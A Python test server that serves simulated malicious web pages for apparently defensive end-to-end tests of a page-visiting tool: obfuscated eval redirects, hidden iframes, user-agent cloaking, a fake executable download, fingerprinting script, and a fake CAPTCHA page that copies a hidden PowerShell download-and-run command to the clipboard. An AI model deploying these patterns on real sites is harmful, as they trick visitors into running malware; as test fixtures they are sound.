"""Pages of attackers for tests/e2e/visit.sh and bench/visit.sh: ADDRESS OTHER_ADDRESS PORT."""
import hashlib
import http.server
import socketserver
import sys
import time

HERE, OTHER, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
SITE = "" if PORT == 80 else ":%d" % PORT
PROGRAM = b"MZ\x90\x00 no program at all, only its first letters" + b"\0" * 3000


def escaped(text):
    return "".join("%%%02x" % ord(c) for c in text)


# What is decoded at run time leads on; its text is found nowhere in the page.
DECODED = "var kept='%s';location.href='http://%s%s/land';" % ("x" * 80, HERE, SITE)
PAGES = {
    "/meta": '<meta http-equiv="refresh" content="0;url=/script">one',
    "/script": '<script>eval(unescape("%s"))</script>' % escaped(DECODED),
    "/land": """<title>Prize</title><h1>You won</h1>
        <iframe src="http://%s%s/gate" width="1" height="1"></iframe>
        <div style="position:absolute;left:-5000px"><iframe src="/outside" width="300" height="200"></iframe></div>
        <script src="/probe.js"></script>
        <script>setTimeout(function () { location.href = "/update.exe"; }, 30000);</script>""" % (OTHER, SITE),
    "/gate": "<p>gate</p>",
    "/outside": "<p>outside</p>",
    "/probe.js": """for (var i = 0; i < 6; i++) navigator.plugins[i];
        try { new ActiveXObject("WScript.Shell"); } catch (e) { }
        if (!navigator.webdriver) document.write("<p>no robot</p>");""",
    "/plain": "<title>Bakery</title><p>Bread, cakes and coffee.</p><img src=/crumb.png>",
    "/inside": '<title>Inside</title><img src="http://10.0.0.5/router"><img src="http://127.0.0.1/x"><img src="http://192.0.2.7/own">',
    "/paste": """<title>Are you a robot?</title><button id=b>I am not</button><script>
        document.addEventListener("mousemove", function () {
            navigator.clipboard.writeText("powershell -w hidden -c \\"iwr http://%s/x|iex\\"").catch(function () { }); });
        </script>""" % OTHER,
    "/busy": "<title>Busy</title><p>before</p><script>setTimeout(function () { for (;;); }, 0);</script>",
}
for i in range(20):
    PAGES["/bench/%d.js" % i] = "var a%d = %d; document.title = 'p' + a%d;" % (i, i, i)
PAGES["/bench"] = "<title>Bench</title>" + "<p>some text of a page</p>" * 200 + "".join(
    '<script src="/bench/%d.js"></script>' % i for i in range(5)) + '<iframe src="/gate"></iframe>'


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def answer(self, status, body=b"", **headers):
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def never_end(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Connection", "close")
        self.end_headers()
        try:
            while True:
                self.wfile.write(b"<p>and on and on</p>\n")
                time.sleep(0.1)
        except OSError:
            pass
        self.close_connection = True

    def huge(self):
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream")
        self.send_header("Content-Length", str(10 << 30))
        self.end_headers()
        try:
            while True:
                self.wfile.write(b"\0" * 65536)
        except OSError:
            pass
        self.close_connection = True

    def do_GET(self):
        path = self.path.split("?")[0]
        agent = self.headers.get("User-Agent", "")
        if path == "/start":
            self.answer(302, Location="/meta", Set_Cookie="seen=1")
        elif path == "/cloak":
            old = "MSIE" in agent
            body = b'<title>Shop</title><p>Welcome</p>' + (
                b'<iframe src="/gate" style="display:none"></iframe><script>location.href="/update.exe"</script>' if old else b"")
            self.answer(200, body, Content_Type="text/html")
        elif path == "/endless":
            self.never_end()
        elif path == "/huge":
            self.huge()
        elif path == "/update.exe":
            self.answer(200, PROGRAM, Content_Type="application/octet-stream")
        elif path in PAGES:
            kind = "text/javascript" if path.endswith(".js") else "text/html"
            self.answer(200, PAGES[path].encode(), Content_Type=kind)
        else:
            self.answer(404, b"no")


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True
    request_queue_size = 128


print(hashlib.sha256(PROGRAM).hexdigest(), flush=True)
Server(("0.0.0.0", PORT), Handler).serve_forever()
